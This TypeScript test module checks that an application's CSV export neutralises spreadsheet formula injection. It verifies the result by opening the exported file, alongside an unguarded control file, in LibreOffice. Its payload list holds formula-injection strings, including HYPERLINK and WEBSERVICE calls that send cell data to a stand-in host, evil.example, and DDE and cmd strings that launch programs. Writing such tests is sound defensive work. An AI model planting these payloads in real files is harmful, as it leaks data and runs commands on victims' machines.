import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { v7 } from 'uuid';
import { startInstallation } from '../bench/backend/installation.ts';
import type { Report } from './report.ts';

const run = promisify(execFile);

const STARTS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', "'=", '=+'];
const BODIES = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("https://evil.example/?leak="&A1;"click")',
  `cmd|' /C calc'!A0`,
  'DDE("cmd";"/C calc";"x")',
  'WEBSERVICE("https://evil.example/"&A2)',
  '2*(3)',
  '-2+cmd|!A0',
];
const PAYLOADS = STARTS.flatMap((start) => BODIES.map((body) => start + body));

/** How LibreOffice is told to read: comma, quotes, UTF-8, from line 1, any language, numbers and formulas recognised, the latter calculated. */
const READING = 'CSV:44,34,76,1,,0,false,true,false,false,false,-1,true';

/** What LibreOffice makes of a CSV: its cells that are formulas, and how many rows it read. */
async function readWithLibreOffice(folder: string, name: string): Promise<{ formulas: string[]; rows: number }> {
  const profile = `-env:UserInstallation=file://${path.join(folder, 'profile')}`;
  const how = [`--infilter=${READING}`, '--convert-to', 'fods', '--outdir', folder, path.join(folder, `${name}.csv`)];
  await run('soffice', [profile, '--headless', '--norestore', ...how], { timeout: 180_000 });
  const document = readFileSync(path.join(folder, `${name}.fods`), 'utf8');
  const formulas = [...document.matchAll(/table:formula="([^"]*)"/g)].map(([, formula = '']) => formula);
  return { formulas, rows: document.match(/lighthouse-\d+/g)?.length ?? 0 };
}

/** Each payload in every text of an application, beside an address by which its row is found. */
const rowOf = (payload: string, n: number) => ({
  posting: {
    title: payload,
    company: payload,
    location: payload,
    description: payload,
    url: `https://example.org/lighthouse-${n}`,
  },
  notes: payload,
  tags: [payload],
});

/**
 * Eighty texts that spreadsheets take for formulas, saved in every field that takes text, exported by the server and opened by
 * LibreOffice: none may have become one. The same texts without the guard are opened beside it, so that this proves something.
 */
export async function runFormulas(): Promise<Report> {
  const version = await run('soffice', ['--version']).then(
    ({ stdout }) => stdout.trim(),
    () => undefined,
  );
  if (version === undefined)
    return {
      broken: [],
      lines: ['formulas: SKIPPED, there is no LibreOffice here (Debian: apt-get install --no-install-recommends libreoffice-calc)'],
    };
  const folder = mkdtempSync(path.join(tmpdir(), 'jackdaw-formulas-'));
  const { server, addUsers, tokenOf, stop } = await startInstallation();
  try {
    await addUsers(1, 1);
    const headers = { authorization: `Bearer ${tokenOf(1)}`, 'content-type': 'application/json' };
    for (const [n, payload] of PAYLOADS.entries()) {
      const body = JSON.stringify(rowOf(payload, n));
      const { status } = await fetch(`${server.url}/api/applications/${v7()}`, { method: 'PUT', headers, body });
      if (status !== 201) throw new Error(`${payload} was answered ${status}`);
    }
    const exported = await fetch(`${server.url}/api/export.csv`, { headers });
    writeFileSync(path.join(folder, 'exported.csv'), Buffer.from(await exported.arrayBuffer()));
    const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
    const bare = PAYLOADS.map((payload, n) => `${quoted(payload)},https://example.org/lighthouse-${n}`);
    writeFileSync(path.join(folder, 'unguarded.csv'), `title,url\r\n${bare.join('\r\n')}\r\n`);

    const ours = await readWithLibreOffice(folder, 'exported');
    const unguarded = await readWithLibreOffice(folder, 'unguarded');
    const broken = ours.formulas.map((formula) => `survived as a formula: ${formula}`);
    if (ours.rows < PAYLOADS.length) broken.push(`LibreOffice read ${ours.rows} rows of ${PAYLOADS.length}`);
    if (unguarded.formulas.length === 0) broken.push('without the guard none became a formula either: the reading proves nothing');
    return {
      broken,
      lines: [
        `formulas: ${PAYLOADS.length} payloads in 6 columns, ${ours.rows} rows read by ${version}: ${ours.formulas.length} formulas`,
        `without the guard, in one column: ${unguarded.formulas.length} formulas`,
      ],
    };
  } finally {
    await stop();
    rmSync(folder, { recursive: true, force: true });
  }
}
